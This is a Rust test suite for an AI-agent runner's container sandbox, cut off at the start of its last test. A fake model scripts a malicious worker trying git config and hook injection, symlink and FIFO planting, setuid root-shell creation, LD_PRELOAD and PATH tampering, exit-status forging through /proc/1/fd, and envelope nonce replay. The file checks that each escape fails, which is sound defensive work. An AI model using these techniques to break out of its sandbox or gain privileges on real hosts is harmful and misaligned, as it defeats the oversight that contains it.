//! The sandbox boundary (SPEC §9), attacked the way a malicious worker would: each
//! test is one attack from issue #9, done by the fake codex's `@run` directives (or
//! planted in the repo as an earlier run would have left it), and asserts that the
//! host-side effect did not happen.

use crate::support;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use support::docker::{TEST_IMAGE, WithoutSeccompProfile, containers_labelled, docker, docker_ok};
use support::fake_openai::FakeOpenAi;
use support::prerequisite::needs;
use support::task::*;
use support::task_yaml::TaskYaml;
use support::{Run, Scratch};

fn mkfifo(path: &Path) {
    let ok = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(ok.success(), "mkfifo {}", path.display());
}

/// `task` with Meta asking for `prompts` one after the other (then completing), ready
/// to run.
fn prompts_task(task: TaskYaml, prompts: &[&str]) -> (Run, FakeOpenAi) {
    let mut answers = vec![plan(&["AC-1"])];
    for (n, prompt) in prompts.iter().enumerate() {
        answers.push(run_worker(prompt));
        let last = n + 1 == prompts.len();
        answers.push(assess(if last { &["AC-1"] } else { &[] }, "checked"));
    }
    let server = FakeOpenAi::start(answers);
    (runner(task.openai(&server)), server)
}

/// Runs `task` with Meta asking for `prompts` one after the other (then completing).
fn run_prompts(task: TaskYaml, prompts: &[&str]) -> (support::Outcome, FakeOpenAi) {
    let (run, server) = prompts_task(task, prompts);
    (run.output(), server)
}

/// `run_prompts` with the daemon's default seccomp profile instead of agent-runner's,
/// which lets the worker set set-id bits: what the sweeps after each run and after
/// the container (the second line) must undo on their own.
fn run_prompts_second_line(task: TaskYaml, prompts: &[&str]) -> (support::Outcome, FakeOpenAi) {
    let without = WithoutSeccompProfile::new();
    let (run, server) = prompts_task(task, prompts);
    (run.env("PATH", without.path()).output(), server)
}

#[test]
fn git_config_written_by_the_worker_runs_nothing_on_the_host() {
    let dir = Scratch::new("bnd-git");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    let host_repo = dir.join("host-repo");
    std::fs::create_dir_all(&host_repo).unwrap();
    support::git_repo(&host_repo, "a.txt", "original\n");
    std::fs::write(host_repo.join("host-only-file.txt"), "x").unwrap();
    let marker = dir.join("pwned");
    let id = task_id("bnd-git");
    let plant = format!(
        "@run: printf '[core]\\n\\tfsmonitor = \"touch {m}-fsmonitor\"\\n[filter \"x\"]\\n\\tclean = \"touch {m}-filter\"\\n' >> .git/config\n\
         @run: echo '* filter=x' > .gitattributes && echo changed >> a.txt\n@say: planted",
        m = marker.display()
    );
    let swap = format!(
        "@run: mv .git .git-real && printf 'gitdir: {}/.git\\n' > .git\n@say: swapped",
        host_repo.display()
    );
    let (out, _server) = run_prompts(e2e_task(&id, &repo), &[&plant, &swap]);
    out.code(0);
    for suffix in ["-fsmonitor", "-filter"] {
        let path = format!("{}{suffix}", marker.display());
        assert!(!Path::new(&path).exists(), "{path} was created on the host");
    }
    let note = note(&repo, &id);
    assert!(
        note.contains("- Files changed:") && note.contains("M a.txt"),
        "git in the container saw run 1's change:\n{note}"
    );
    assert!(
        !note.contains("host-only-file"),
        "the note lists a host repository's files:\n{note}"
    );
    assert_no_container(&id);
}

#[test]
fn an_in_place_worker_can_commit_but_not_write_what_git_on_the_host_runs() {
    let dir = Scratch::new("bnd-git-dir");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    let config = std::fs::read(repo.join(".git/config")).unwrap();
    let id = task_id("bnd-git-dir");
    // A commit, then each attack on its own (`;`): config, a hook, attributes, `.git`
    // swapped for a directory of the worker's, a `commondir` leading git elsewhere.
    let attack = "@run: echo changed > a.txt && git -c safe.directory='*' -c user.name=w -c user.email=w@localhost commit -qam work; \
         printf '[core]\\n\\tfsmonitor = \"touch /tmp/pwned\"\\n' >> .git/config; \
         printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/post-checkout; \
         echo '* filter=x' > .git/info/attributes; \
         mv .git .git-moved; \
         mkdir -p evil && echo ../evil > .git/commondir\n@say: tried";
    let (out, _server) = run_prompts(e2e_task(&id, &repo), &[attack]);
    out.code(0);
    assert_eq!(std::fs::read(repo.join(".git/config")).unwrap(), config);
    assert!(!repo.join(".git/hooks/post-checkout").exists());
    assert!(!repo.join(".git/info/attributes").exists());
    assert!(!repo.join(".git-moved").exists() && repo.join(".git/HEAD").is_file());
    assert!(
        !repo.join(".git/commondir").exists(),
        "the sweep removed it"
    );
    let note = note(&repo, &id);
    assert!(
        note.contains(".git/commondir: deleted (git would have taken its configuration and hooks from where it pointed)"),
        "{note}"
    );
    let log = Command::new("git")
        .args(["-c", "safe.directory=*", "log", "--format=%s"])
        .current_dir(&repo)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&log.stdout),
        "work\ninit\n",
        "the worker committed"
    );
    assert_no_container(&id);
}

#[test]
fn planted_symlinks_in_our_directory_are_never_written_through() {
    let dir = Scratch::new("bnd-links");
    let repo = dir.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let host_file = dir.file("host-file", "host data\n");
    let id = task_id("bnd-links");
    // As a worker of an earlier run (or anything before the container) left them.
    let logs = repo.join(format!(".agent-runner/logs/{id}"));
    std::fs::create_dir_all(&logs).unwrap();
    std::os::unix::fs::symlink(&host_file, logs.join("test-1.log")).unwrap();
    std::os::unix::fs::symlink(&host_file, logs.join("run-1.log")).unwrap();
    std::os::unix::fs::symlink(&host_file, repo.join(format!(".agent-runner/task-{id}.md")))
        .unwrap();
    // And during the run: our directory is read-only in the container.
    let attack = format!(
        "@run: ln -sf {host} .agent-runner/logs/{id}/test-1.log; echo ln=$?\n\
         @run: rm -rf .agent-runner; echo rm=$?; ls -d .agent-runner\n\
         @run: echo x > .agent-runner/evil; echo write=$?\n@say: tried",
        host = host_file.display()
    );
    let (out, _server) = run_prompts(e2e_task(&id, &repo).test("echo test-output"), &[&attack]);
    out.code(0);
    assert_eq!(std::fs::read_to_string(&host_file).unwrap(), "host data\n");
    let test_log = logs.join("test-1.log");
    assert!(std::fs::symlink_metadata(&test_log).unwrap().is_file());
    assert_eq!(std::fs::read_to_string(&test_log).unwrap(), "test-output\n");
    let run_log = std::fs::read_to_string(logs.join("run-1.log")).unwrap();
    assert!(
        run_log.contains("ln=1") && run_log.contains("rm=1") && run_log.contains("write=1"),
        "the container could change .agent-runner:\n{run_log}"
    );
    assert!(!repo.join(".agent-runner/evil").exists());
    assert!(note(&repo, &id).contains("- State: COMPLETE"));
    assert_no_container(&id);
}

#[test]
fn a_swapped_private_directory_is_refused_before_anything_runs() {
    let dir = Scratch::new("bnd-swap");
    let repo = dir.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let elsewhere = dir.join("host-dir");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, repo.join(".agent-runner")).unwrap();
    let id = task_id("bnd-swap");
    let server = FakeOpenAi::start(vec![plan(&["AC-1"])]);
    let out = runner(v1_task(&id, &repo, &server)).arg("--json").output();
    out.code(1).stderr_has("is a symlink");
    let result: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(result["status"], "failed");
    assert!(result["error"].as_str().unwrap().contains("is a symlink"));
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
    assert!(server.received().is_empty(), "nothing ran");
}

#[test]
fn fifos_in_our_directory_cannot_hang_the_run() {
    let dir = Scratch::new("bnd-fifo");
    let repo = dir.join("repo");
    let id = task_id("bnd-fifo");
    let logs = repo.join(format!(".agent-runner/logs/{id}"));
    std::fs::create_dir_all(&logs).unwrap();
    mkfifo(&logs.join("test-1.log"));
    mkfifo(&logs.join("run-1.log"));
    mkfifo(&repo.join(format!(".agent-runner/task-{id}.md")));
    let started = Instant::now();
    let (out, _server) = run_prompts(e2e_task(&id, &repo).test("echo ok"), &["@say: hi"]);
    out.code(0);
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "{:?}",
        started.elapsed()
    );
    assert!(
        std::fs::symlink_metadata(logs.join("test-1.log"))
            .unwrap()
            .is_file()
    );
    assert!(note(&repo, &id).contains("- State: COMPLETE"));
}

#[test]
fn a_prd_link_the_worker_planted_in_the_repo_cannot_read_a_host_file() {
    // Run 1's worker turns the PRD in the repo into a link to a host file; a second
    // run of the same task (a retry) would send that file to Meta as the PRD and
    // write it into the note, where the next worker reads it.
    let dir = Scratch::new("bnd-prd");
    let repo = dir.join("repo");
    dir.file("repo/docs/TASK.md", "Make out.txt say ok.\n");
    let secret = format!("HOST-SECRET-{}", support::random_hex(16));
    let host_file = dir.file("host-secret.txt", format!("{secret}\n"));
    dir.file("host-dir/TASK.md", format!("{secret}\n"));
    let id = task_id("bnd-prd");
    let yaml = |server: &FakeOpenAi| {
        v1_task(&id, &repo, server)
            .remove("task.prd.text")
            .set("task.prd.path", repo.join("docs/TASK.md"))
    };
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker(&format!(
            "@run: ln -sf {} docs/TASK.md\n@say: linked",
            host_file.display()
        )),
        assess(&["AC-1"], "done"),
    ]);
    runner(yaml(&server)).output().code(0);
    assert!(
        std::fs::symlink_metadata(repo.join("docs/TASK.md"))
            .unwrap()
            .is_symlink()
    );
    let retry = |what: &str| {
        let server = FakeOpenAi::start(vec![plan(&["AC-1"])]);
        let out = runner(yaml(&server)).arg("--json").output();
        out.code(1)
            .stderr_has("task.prd.path")
            .stderr_has("leaves the repository through the symlink");
        assert!(server.received().is_empty(), "{what}: Meta was asked");
        assert!(!out.stdout.contains(&secret) && !out.stderr.contains(&secret));
        assert!(!everything_written(&repo).contains(&secret), "{what}");
    };
    retry("a linked file");
    // A linked directory on the way.
    std::fs::remove_file(repo.join("docs/TASK.md")).unwrap();
    std::fs::remove_dir(repo.join("docs")).unwrap();
    std::os::unix::fs::symlink(dir.join("host-dir"), repo.join("docs")).unwrap();
    retry("a linked directory");
    assert_no_container(&id);
}

#[test]
fn worker_env_does_not_reconfigure_the_host_docker_client() {
    let dir = Scratch::new("bnd-env");
    let repo = dir.join("repo");
    let marker = dir.join("fake-docker-ran");
    // A repo-made `docker` that a relative PATH entry would make the host run.
    dir.file(
        "repo/node_modules/.bin/docker",
        format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
    );
    std::fs::set_permissions(
        repo.join("node_modules/.bin/docker"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let id = task_id("bnd-env");
    let env = serde_json::json!({
        "PATH": "node_modules/.bin:/usr/local/bin:/usr/bin:/bin",
        "DOCKER_HOST": "unix:///nonexistent/docker.sock",
        "LD_PRELOAD": "/nonexistent/evil.so",
    });
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker("@run: echo \"path=$PATH host=$DOCKER_HOST\"\n@say: looked"),
        assess(&["AC-1"], "done"),
    ]);
    let yaml = v1_task(&id, &repo, &server).test("true");
    let out = runner(yaml.set("runner.worker.env", env))
        .cwd(&repo)
        .output();
    out.code(0);
    assert!(!marker.exists(), "the host ran the repo's docker");
    let log =
        std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/run-1.log"))).unwrap();
    assert!(
        log.contains("path=node_modules/.bin:") && log.contains("host=unix:///nonexistent"),
        "the container got the variables:\n{log}"
    );
    assert_no_container(&id);
}

/// Set-id files seen in `dir` (recursively, links not followed), as relative paths.
fn set_id_files(dir: &Path, base: &Path, found: &mut Vec<String>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        let Ok(meta) = std::fs::symlink_metadata(&path) else {
            continue;
        };
        if meta.is_dir() {
            set_id_files(&path, base, found);
        } else if meta.is_file() && meta.permissions().mode() & 0o6000 != 0 {
            let relative = path.strip_prefix(base).unwrap().display().to_string();
            found.push(format!(
                "{relative} ({:o})",
                meta.permissions().mode() & 0o7777
            ));
        }
    }
}

/// Issue #28: a worker ran `cp tool.bin build-helper && chmod 4755 build-helper` and
/// slept, and another local user ran the setuid-root file from the host during the
/// run (the sweep comes only after it). The repository is polled from the host while
/// the worker and then the test command sleep: no file in it may carry a set-id bit
/// at any moment, whichever way the worker tries (each system call that takes a mode,
/// the 32-bit ABI, io_uring, file capabilities, `cp -p`/`tar -x` of a set-id file
/// the image brings or the repository holds); ordinary modes keep working.
#[test]
fn no_file_in_the_repository_has_a_set_id_bit_while_the_worker_runs() {
    let dir = Scratch::new("bnd-setid-live");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    std::fs::copy(support::setid_probe(), repo.join("setid-probe")).unwrap();
    // A tar holding a setuid file, as a repository may (made here, outside the repo).
    let packed = dir.join("packed");
    std::fs::create_dir_all(&packed).unwrap();
    std::fs::copy("/bin/true", packed.join("from-tar")).unwrap();
    std::fs::set_permissions(
        packed.join("from-tar"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    Run::program(
        "tar",
        &["-cf", repo.join("suid.tar").to_str().unwrap(), "-C"],
    )
    .args(&[packed.to_str().unwrap(), "from-tar"])
    .output()
    .code(0);
    let id = task_id("bnd-setid-live");
    let attack = "@run: cp /bin/busybox build-helper && chmod 4755 build-helper; echo chmod=$?\n\
                  @run: chmod u+s build-helper; echo chmod-u=$?; chmod g+s build-helper; echo chmod-g=$?\n\
                  @run: ./setid-probe\n\
                  @run: cp -p /bin/setid-tool copied-p; echo cp-p=$?; cp -a /bin/setid-tool copied-a; echo cp-a=$?\n\
                  @run: ln /bin/setid-tool linked; echo ln=$?\n\
                  @run: tar -C / -cf - bin/setid-tool | tar -xpf -; echo tar-image=$?\n\
                  @run: tar -xpf suid.tar; echo tar-repo=$?\n\
                  @run: mv /bin/setid-tool moved; echo mv=$?\n\
                  @sleep: 4\n@say: built the helper";
    let test = "cp /bin/busybox test-helper && chmod 4755 test-helper; echo test-chmod=$?; sleep 3";
    let image = support::docker::image_with_setid_file();
    let (run, _server) = prompts_task(e2e_task(&id, &repo).test(test).image(&image), &[attack]);
    let running = run.start();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(std::collections::BTreeSet::new()));
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let (polls, poller) = {
        let (seen, done, repo) = (seen.clone(), done.clone(), repo.clone());
        let polls = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counted = polls.clone();
        let poller = std::thread::spawn(move || {
            while !done.load(std::sync::atomic::Ordering::SeqCst) {
                let mut found = Vec::new();
                set_id_files(&repo, &repo, &mut found);
                found.retain(|f| !f.starts_with("setid-probe"));
                seen.lock().unwrap().extend(found);
                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                std::thread::sleep(Duration::from_millis(20));
            }
        });
        (polls, poller)
    };
    let out = running.finish();
    done.store(true, std::sync::atomic::Ordering::SeqCst);
    poller.join().unwrap();
    out.code(0);
    let seen = seen.lock().unwrap().clone();
    assert!(
        seen.is_empty(),
        "set-id files were live in the repository during the run: {seen:?}"
    );
    assert!(
        polls.load(std::sync::atomic::Ordering::SeqCst) > 100,
        "the repository was polled"
    );
    let log =
        std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/run-1.log"))).unwrap();
    for refused in [
        "chmod=1",
        "chmod-u=1",
        "chmod-g=1",
        "cp-p=1",
        "cp-a=1",
        "ln=1",
    ] {
        assert!(log.contains(refused), "{refused}:\n{log}");
    }
    // The probe's lines, from the command's output in the agent's JSON events.
    let probe: Vec<&str> = log
        .split("\\n")
        .filter_map(|l| l.split_once("setid-probe ").map(|(_, rest)| rest))
        .collect();
    let expected = [
        "open-0755 ok",
        "chmod EPERM",
        "fchmod EPERM",
        "fchmodat EPERM",
        "fchmodat-nofollow EPERM",
        "fchmodat2 EPERM",
        "open EPERM",
        "openat EPERM",
        "creat EPERM",
        "o-tmpfile EPERM",
        "openat2 ENOSYS",
        "mknod EPERM",
        "mknodat EPERM",
        "mkdir EPERM",
        "mkdirat EPERM",
        "x32-chmod EPERM",
        "io_uring_setup EPERM",
        "setxattr-capability EPERM",
        "chmod-i386 EPERM",
        "chmod-0700 ok",
        "chmod-sticky ok",
        "open-0644 ok",
        "mkfifo ok",
        "mkdir-0755 ok",
    ];
    assert_eq!(probe, expected, "{log}");
    let test_log =
        std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/test-1.log"))).unwrap();
    assert!(test_log.contains("test-chmod=1"), "{test_log}");
    let note = note(&repo, &id);
    assert!(
        !note.contains("setuid/setgid bits removed"),
        "nothing was left to sweep:\n{note}"
    );
    let mut after = Vec::new();
    set_id_files(&repo, &repo, &mut after);
    assert_eq!(after, Vec::<String>::new());
    assert_no_container(&id);
}

/// The second line: with set-id bits let through (the daemon's own seccomp profile),
/// the sweep after the run still removes them.
#[test]
#[ignore = "needs root"]
fn setuid_files_and_device_nodes_do_not_survive_in_the_repo() {
    // Root, for mknod on the host.
    needs!(Root);
    let dir = Scratch::new("bnd-priv");
    let repo = dir.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    // As an earlier, less confined run might have left it.
    let ok = Command::new("mknod")
        .args([&repo.join("disk").display().to_string(), "c", "1", "3"])
        .status()
        .unwrap();
    assert!(ok.success());
    let id = task_id("bnd-priv");
    let attack = "@run: cp /bin/busybox rootshell && chmod 4755 rootshell && chmod 2755 rootshell2 2>/dev/null; cp rootshell rootshell2; chmod 6755 rootshell2; ls -l rootshell\n\
                  @run: mknod zero c 1 5; echo mknod=$?\n@say: left some things";
    let (out, _server) = run_prompts_second_line(e2e_task(&id, &repo), &[attack]);
    out.code(0);
    let mode = |p: &str| {
        std::fs::metadata(repo.join(p))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("rootshell"), 0o755);
    assert_eq!(mode("rootshell2"), 0o755);
    assert!(
        !repo.join("disk").exists(),
        "the planted device node is gone"
    );
    assert!(
        !repo.join("zero").exists(),
        "mknod must fail in the container"
    );
    let log =
        std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/run-1.log"))).unwrap();
    assert!(log.contains("mknod=1"), "{log}");
    let note = note(&repo, &id);
    for line in [
        "rootshell: setuid/setgid bits removed (mode was 4755)",
        "rootshell2: setuid/setgid bits removed (mode was 6755)",
        "disk: character device node deleted",
    ] {
        assert!(note.contains(line), "note lacks {line:?}:\n{note}");
    }
}

/// The sweep changes the repository, nothing else: a filesystem mounted below the
/// repo (the user's, or the host's) is not entered, so a setuid file there keeps its
/// bits while one in the repo loses them.
#[test]
#[ignore = "needs root"]
fn the_privilege_sweep_stays_on_the_repository_s_filesystem() {
    needs!(Root);
    let dir = Scratch::new("bnd-xdev");
    let repo = dir.join("repo");
    let mounted = repo.join("mnt");
    let _tmpfs = support::Tmpfs::mount(&mounted, "1m");
    for file in [repo.join("mine"), mounted.join("theirs")] {
        std::fs::copy("/bin/true", &file).unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o4755)).unwrap();
    }
    let id = task_id("bnd-xdev");
    let (out, _server) = run_prompts(e2e_task(&id, &repo), &["@say: nothing to do"]);
    out.code(0);
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(&repo.join("mine")), 0o755);
    assert_eq!(mode(&mounted.join("theirs")), 0o4755);
    let note = note(&repo, &id);
    assert!(
        note.contains("mine: setuid/setgid bits removed") && !note.contains("theirs"),
        "{note}"
    );
    assert_no_container(&id);
}

#[test]
fn a_killed_container_fails_the_task_at_once() {
    let dir = Scratch::new("bnd-dead");
    let id = task_id("bnd-dead");
    // It leaves a setuid file first (let through: the second line is tested). It
    // cannot end its sandbox itself (PID 1 is agent-runner's helper, which takes no
    // signal from inside), so the container is killed from outside while it sleeps:
    // the run ends in an error, the sweep still runs. Under gVisor, which spares
    // PID 1 no SIGKILL, its own signal ends the container (docs/tools-and-runtimes.md,
    // "Running under gVisor"): the task must fail the same way.
    let attack = "@run: cp /bin/busybox suid && chmod 4755 suid\n\
                  @run: kill -TERM 1; kill -KILL 1; kill -STOP 1; touch signalled\n@sleep: 10";
    let without = WithoutSeccompProfile::new();
    let (run, server) = prompts_task(e2e_task(&id, &dir.path), &[attack]);
    let running = run.env("PATH", without.path()).start();
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut started = false;
    while !dir.join("signalled").exists() {
        let running = !containers_labelled("agent-runner.task", &id).is_empty();
        if started && !running && support::task_yaml::under_gvisor() {
            break;
        }
        started |= running;
        assert!(
            Instant::now() < deadline,
            "the worker never signalled PID 1"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    for name in containers_labelled("agent-runner.task", &id) {
        docker(&["kill", &name]);
    }
    let out = running.finish();
    out.code(1)
        .stdout_has("sandbox: the sandbox container agent-runner-");
    out.stdout_has("is gone");
    let mode = std::fs::metadata(dir.join("suid"))
        .unwrap()
        .permissions()
        .mode()
        & 0o7777;
    assert_eq!(mode, 0o755, "the setuid bit survived a failed run");
    assert_eq!(
        server.received().len(),
        2,
        "no Meta call after the sandbox died (plan_task, next_action only)"
    );
    assert!(note(&dir.path, &id).contains("is gone"));
    assert_no_container(&id);
}

#[test]
fn an_image_without_codex_fails_the_task_at_once() {
    let dir = Scratch::new("bnd-nocodex");
    let id = task_id("bnd-nocodex");
    let image = TEST_IMAGE.replace(":latest", ":nocodex");
    let server = FakeOpenAi::start(vec![plan(&["AC-1"]), run_worker("@say: hi")]);
    // `agent_from: auto` would run the tools volume's codex (docker::tools_volume).
    let yaml = v1_task(&id, &dir.path, &server)
        .image(&image)
        .set("runner.worker.agent_from", "image");
    let out = runner(&yaml).output();
    out.code(1).stdout_has(&format!(
        "sandbox: docker image {image} cannot run the worker: it has no `codex` on PATH"
    ));
    assert_eq!(server.received().len(), 2);
    assert_no_container(&id);
}

/// 32 lower-case hex digits on a line of their own: how an envelope nonce travels
/// (the first line of an exec's stdin).
pub(crate) fn nonces_in(bytes: &[u8]) -> Vec<String> {
    let hex = |b: &u8| b.is_ascii_digit() || (b'a'..=b'f').contains(b);
    let mut found = Vec::new();
    let mut start = 0;
    while start < bytes.len() {
        let run = bytes[start..].iter().take_while(|b| hex(b)).count();
        let before_ok = start == 0 || !bytes[start - 1].is_ascii_alphanumeric();
        if run == 32 && before_ok && bytes.get(start + run) == Some(&b'\n') {
            found.push(String::from_utf8_lossy(&bytes[start..start + run]).into_owned());
        }
        start += run.max(1);
    }
    found
}

/// A command's status, as the sandbox's PID 1 reports it, comes on a socket:
/// a test that writes `0` on every descriptor of PID 1 it can open (gVisor lets
/// it open a pipe PID 1 holds through `/proc/1/fd`; runc, none) and exits 3
/// still fails with 3. With the status on a pipe, under gVisor, it passed.
#[test]
fn a_test_cannot_say_its_own_status_through_pid_1_s_descriptors() {
    let dir = Scratch::new("bnd-status");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    let id = task_id("bnd-status");
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker("@say: nothing to do"),
        assess(&["AC-1"], "done"),
    ]);
    let forge = "for f in /proc/1/fd/*; do echo 0 > $f; done 2>/dev/null; exit 3";
    let out = runner(
        v1_task(&id, &repo, &server)
            .test(forge)
            .set("runner.meta.max_loops", 1),
    )
    .output();
    out.code(1).stderr_has("failed (exit 3)");
    assert_no_container(&id);
}

/// The envelope's records carry a nonce that is new for every exec, so records a
/// worker replays from another exec are its output, never a snapshot. Here the
/// nonces are overheard on their way to the daemon (written into the repo for the
/// worker); the second run's worker writes a `git-before` record with the first
/// run's nonce straight into the envelope's stdout. With one nonce for all execs
/// the note would show a HEAD that never was. (Through the engine's exec: through
/// the sandbox's main process no nonce travels through the engine to be overheard,
/// `docker::main_exec`.)
#[test]
fn a_worker_cannot_replay_another_execs_envelope_records() {
    let dir = Scratch::new("bnd-nonce");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    let id = task_id("bnd-nonce");
    let overheard = repo.join("nonces.txt");
    let file = overheard.clone();
    let proxy = support::docker_proxy::DockerProxy::start_tapped(
        &dir.join("docker.sock"),
        std::sync::Arc::new(move |bytes: &[u8]| {
            for nonce in nonces_in(bytes) {
                use std::io::Write;
                let mut f = std::fs::OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(&file)
                    .unwrap();
                writeln!(f, "{nonce}").unwrap();
            }
        }),
    );
    let forged = "1111111111111111111111111111111111111111";
    let replay = format!(
        "@run: n=$(head -n 1 nonces.txt); for c in /proc/[0-9]*/cmdline; do if grep -q agent-runner-envelope $c; then printf '\\036%s git-before\\n# branch.oid {forged}\\n# branch.head main\\nexit 0\\n\\036%s end\\n' \"$n\" \"$n\" > ${{c%/cmdline}}/fd/1; fi; done\n@say: replayed"
    );
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker("@say: first"),
        assess(&[], "again"),
        run_worker(&replay),
        assess(&["AC-1"], "checked"),
    ]);
    let out = runner(v1_task(&id, &repo, &server))
        .env("DOCKER_HOST", format!("unix://{}", proxy.path.display()))
        .env("AGENT_RUNNER_EXEC", "engine")
        .output();
    out.code(0);
    let nonces = std::fs::read_to_string(&overheard).unwrap_or_default();
    assert!(nonces.lines().count() >= 2, "overheard: {nonces:?}");
    let note = note(&repo, &id);
    assert!(
        !note.contains("- Git HEAD:"),
        "a replayed record was taken for a snapshot:\n{note}"
    );
    // The replayed record is in the log as the worker's output.
    let first = nonces.lines().next().unwrap();
    let log =
        std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/run-2.log"))).unwrap();
    assert!(
        log.contains(&format!("\u{1e}{first} git-before\n# branch.oid {forged}")),
        "{log}"
    );
    assert_no_container(&id);
}

/// Notes (and `.gitignore`) are written to a temp file beside them, then renamed.
/// `.agent-runner/` is read-only to a running worker, but a worker's commit can carry
/// one into a later task's clone (checked out from its dependencies' branches): here
/// the names a predictable temp file would have are planted first, links out of the
/// repo and FIFOs. They neither redirect nor block the writes.
#[test]
fn a_planted_temp_name_neither_redirects_nor_blocks_the_note() {
    let dir = Scratch::new("bnd-temp");
    let repo = dir.join("repo");
    let private = repo.join(".agent-runner");
    std::fs::create_dir_all(&private).unwrap();
    let outside = dir.file("outside.txt", "untouched\n");
    let id = task_id("bnd-temp");
    for name in [format!("task-{id}.md"), ".gitignore".to_string()] {
        mkfifo(&private.join(format!(".{name}.tmp")));
        for link in [format!(".{name}..tmp"), format!("{name}.tmp")] {
            std::os::unix::fs::symlink(&outside, private.join(link)).unwrap();
        }
    }
    let (out, _server) = run_prompts(e2e_task(&id, &repo), &["@say: nothing to do"]);
    out.code(0);
    for name in [format!("task-{id}.md"), ".gitignore".to_string()] {
        let meta = std::fs::symlink_metadata(private.join(&name)).unwrap();
        assert!(meta.file_type().is_file(), "{name}: {meta:?}");
    }
    assert!(note(&repo, &id).contains("- State: COMPLETE"));
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "untouched\n");
    assert_no_container(&id);
}

#[test]
fn a_daemon_that_drops_fails_the_task_at_once() {
    let dir = Scratch::new("bnd-daemon");
    let id = task_id("bnd-daemon");
    let proxy = support::docker_proxy::DockerProxy::start(&dir.join("docker.sock"));
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker("@say: working\n@sleep: 30"),
        assess(&[], "should not be asked"),
    ]);
    let child = runner(v1_task(&id, &dir.path, &server))
        .env("DOCKER_HOST", format!("unix://{}", proxy.path.display()))
        .start();
    let log = dir.join(&format!(".agent-runner/logs/{id}/run-1.log"));
    wait_for(Duration::from_secs(30), || {
        std::fs::read_to_string(&log).is_ok_and(|l| l.contains("working"))
    });
    let cut = Instant::now();
    proxy.stop();
    let out = child.finish();
    out.code(1)
        .stdout_has("sandbox: docker daemon not reachable");
    assert!(
        cut.elapsed() < Duration::from_secs(20),
        "{:?}",
        cut.elapsed()
    );
    assert_eq!(
        server.received().len(),
        2,
        "no Meta call after the daemon went"
    );
    // The real daemon was fine all along: the container went with its connection.
    wait_for(Duration::from_secs(10), || {
        containers_labelled("agent-runner.task", &id).is_empty()
    });
}

#[test]
fn stray_processes_are_stopped_after_every_run() {
    let dir = Scratch::new("bnd-stray");
    let id = task_id("bnd-stray");
    // Run 1 leaves a writer behind and completes; run 2 leaves one and times out.
    let stray = |file: &str| {
        format!("@run: (while :; do echo x >> {file}; sleep 0.05; done) >/dev/null 2>&1 &")
    };
    let first = format!(
        "{}\n@run: head -c 40000000 /dev/zero > /proc/1/fd/1; echo flooded\n@say: left a writer",
        stray("one.txt")
    );
    let second = format!("{}\n@say: stalling\n@sleep: 60", stray("two.txt"));
    // The test fails if a writer still runs while it looks, and leaves one itself.
    let test = "for f in one.txt two.txt; do [ -f $f ] || continue; a=$(wc -c < $f); sleep 0.5; b=$(wc -c < $f); [ \"$a\" = \"$b\" ] || { echo \"$f grows\"; exit 1; }; done; (while :; do echo y >> three.txt; sleep 0.05; done) >/dev/null 2>&1 & echo checked";
    let (out, _server) = run_prompts(
        e2e_task(&id, &dir.path)
            .test(test)
            .set("runner.worker.max_run_time_sec", 3),
        &[&first, &second],
    );
    out.code(0);
    let note = note(&dir.path, &id);
    assert!(
        note.contains("#### Run 2 (timed_out"),
        "run 2 timed out:\n{note}"
    );
    // Both worker runs and the last test run (the one §5 shows) left processes.
    let stopped = note
        .matches("- Leftover processes stopped in the container afterwards: ")
        .count();
    assert_eq!(stopped, 3, "{note}");
    let run_log =
        std::fs::read_to_string(dir.join(&format!(".agent-runner/logs/{id}/run-1.log"))).unwrap();
    assert!(
        run_log.contains("flooded"),
        "writing to PID 1's stdout blocked"
    );
    assert_no_container(&id);
}

#[test]
fn a_second_run_of_the_same_task_id_is_refused_and_touches_nothing() {
    let dir = Scratch::new("bnd-twice");
    let id = task_id("bnd-twice");
